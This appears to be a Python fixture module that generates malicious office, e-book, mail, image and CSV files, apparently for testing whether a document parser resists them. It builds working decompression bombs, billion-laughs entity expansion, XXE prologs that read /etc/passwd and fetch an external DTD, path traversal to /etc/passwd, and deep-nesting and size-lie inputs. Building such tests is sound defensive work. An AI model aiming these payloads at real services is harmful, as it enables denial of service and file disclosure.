"""Presentations, sheets, books, mails and images that mean harm, each made by a function."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable

from .hostile_docx import packed
from .hostile_pdf import deflated
from .office_files import (
    make_epub,
    make_image,
    make_mail,
    make_odf,
    make_pptx,
    make_xlsx,
    relations,
    shape,
    sheet,
    slide,
    text_cells,
    zipped,
)

Make = Callable[[str], bytes]
SHIPS = "Ships lie at the pier."
LAUGHS = "<!DOCTYPE d [<!ENTITY l0 'lol'>{}]>".format(
    "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
)


def external(url: str) -> str:
    return f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{url}"> %p; <!ENTITY f SYSTEM "file:///etc/passwd">]>'


def bomb(name: str, piece: bytes, times: int) -> Make:
    """An archive whose part unpacks to `times` MiB and claims to be small."""
    return lambda url: packed(name, deflated((piece * (1 << 20))[: 1 << 20], times)[2:-4], 1_000)


def _cells_far_away(url: str) -> bytes:
    rows = "".join(f'<row r="{n * 1000 + 1}"><c r="XFD{n * 1000 + 1}"><v>1</v></c></row>' for n in range(20_000))
    return make_xlsx({"a": sheet().replace("<sheetData>", f"<sheetData>{rows}")})


def _strings_billions(url: str) -> bytes:
    cells = '<c t="s"><v>0</v></c>' * 16_000
    strings = (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"x" * 60_000}</t></si></sst>'
    )
    return make_xlsx({"a": sheet(*[cells] * 30)}, {"xl/sharedStrings.xml": strings})


def _slides_loop(url: str) -> bytes:
    links = relations(*((f"s{n}", "slide", "slides/slide1.xml") for n in range(2_000)))
    return make_pptx([slide(shape(SHIPS))] * 2_000, {"ppt/_rels/presentation.xml.rels": links})


def _paths(url: str) -> bytes:
    links = relations(("s0", "slide", "../../../../etc/passwd"), ("s1", "slide", url))
    return make_pptx(
        [slide(shape("no"))] * 2, {"ppt/_rels/presentation.xml.rels": links, "etc/passwd": slide(shape(SHIPS))}
    )


def _repeated(url: str) -> bytes:
    cell = f'<table:table-cell table:number-columns-repeated="1000"><text:p>{"x" * 1000}</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000">{cell * 40}</table:table-row>'
    return make_odf("spreadsheet", f"<table:table>{row * 100}</table:table>")


def _deep_mail(url: str) -> bytes:
    head = "From: a@b.example\nTo: c@d.example\nSubject: deep\n"
    parts = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(5_000))
    return (head + parts + f"\n{SHIPS}").encode()


def _mail_with(name: str, data: Make) -> Make:
    return lambda url: make_mail(SHIPS, [(name, data(url))])


def _png_lies(url: str) -> bytes:
    """An image of 60,000 x 60,000 pixels in a few bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1 << 20)))
        + chunk(b"IEND", b"")
    )


def _tiff_loop(url: str) -> bytes:
    """A page whose next page is itself."""
    data = bytearray(make_image(["a"], "TIFF"))
    (at,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, at)
    struct.pack_into("<I", data, at + 2 + 12 * count, at)
    return bytes(data)


def _chapter(body: str, prolog: str = "") -> str:
    return f"{prolog}<html xmlns='http://www.w3.org/1999/xhtml'><body>{body}</body></html>"


OFFICE: dict[str, tuple[str, Make]] = {
    "pptx-bomb": ("a.pptx", bomb("ppt/presentation.xml", b"<p:sp/>", 1_000)),
    "pptx-slides_loop": ("a.pptx", _slides_loop),
    "pptx-paths": ("a.pptx", _paths),
    "pptx-laughs": ("a.pptx", lambda url: make_pptx([slide(shape("&l9;"), prolog=LAUGHS)])),
    "pptx-entities": ("a.pptx", lambda url: make_pptx([slide(shape("&f;"), prolog=external(url))])),
    "pptx-deep": ("a.pptx", lambda url: make_pptx([slide("<p:grpSp>" * 250 + shape(SHIPS) + "</p:grpSp>" * 250)])),
    "xlsx-bomb": ("a.xlsx", bomb("xl/workbook.xml", b"<row><c/></row>", 2_000)),
    "xlsx-cells_far_away": ("a.xlsx", _cells_far_away),
    "xlsx-strings_billions": ("a.xlsx", _strings_billions),
    "xlsx-laughs": ("a.xlsx", lambda url: make_xlsx({"a": sheet(text_cells("&l9;"), prolog=LAUGHS)})),
    "xlsx-entities": ("a.xlsx", lambda url: make_xlsx({"a": sheet(text_cells("&f;"), prolog=external(url))})),
    "odt-bomb": ("a.odt", bomb("content.xml", b"<text:p/>", 1_000)),
    "odt-entities": ("a.odt", lambda url: make_odf("text", "<text:p>&f;</text:p>", prolog=external(url))),
    "ods-repeated": ("a.ods", _repeated),
    "epub-entities": ("a.epub", lambda url: make_epub([_chapter(f"<p>{SHIPS} &f;</p>", external(url))])),
    "epub-laughs": ("a.epub", lambda url: make_epub([_chapter(f"<p>{SHIPS} &l9;</p>", LAUGHS)])),
    "epub-active": (
        "a.epub",
        lambda url: make_epub([_chapter(f"<script>CANARY</script><iframe src='{url}'/><p>{SHIPS}</p>")]),
    ),
    "epub-nested": ("a.epub", lambda url: make_epub([_chapter(SHIPS)], {"a.zip": zipped({"b.zip": "CANARY"})})),
    "eml-deep": ("a.eml", _deep_mail),
    "eml-bomb": ("a.eml", _mail_with("a.docx", bomb("word/document.xml", b"<w:p/>", 1_000))),
    "eml-image": ("a.eml", _mail_with("a.png", _png_lies)),
    "eml-zip": ("a.eml", _mail_with("a.zip", lambda url: zipped({"a.zip": zipped({"b.txt": "CANARY"})}))),
    "eml-headers": (
        "a.eml",
        lambda url: make_mail(SHIPS).replace(b"Subject: Keys", b"Subject: " + b"=?utf-8?b?" * 50_000 + b"\n\xff\x00"),
    ),
    "eml-base64": (
        "a.eml",
        lambda url: make_mail(SHIPS, [("a.pdf", base64.b64encode(bytes(300)))]).replace(b"base64", b"uuencode"),
    ),
    "rtf-fields": ("a.rtf", lambda url: b"{\\rtf1 " + b"{\\field{\\*\\fldinst{" * 20_000 + b"}" * 60_001),
    "rtf-deep": ("a.rtf", lambda url: b"{\\rtf1 " + b"{" * 200_000 + SHIPS.encode() + b"}" * 200_001),
    "rtf-numbers": ("a.rtf", lambda url: b"{\\rtf1 \\u9999999999? \\uc99999999 \\bin99999999 \\'zz " + SHIPS.encode()),
    "csv-one_cell": ("a.csv", lambda url: b"a,b\n1,2\n" + b"x" * 10_000_000),
    "csv-quotes": ("a.csv", lambda url: b"a,b\n1,2\n" + b'"' * 3_000_001),
    "csv-columns": ("a.csv", lambda url: b"," * 2_000_000 + b"\n1" + b"," * 2_000_000),
    "png-lies": ("a.png", _png_lies),
    "tiff-loop": ("a.tiff", _tiff_loop),
    "webp-cut": ("a.webp", lambda url: make_image([SHIPS], "WEBP")[:80]),
    "mbox-lines": ("a.mbox", lambda url: b"From a 10:00:00\n\n" * 20_000),
}
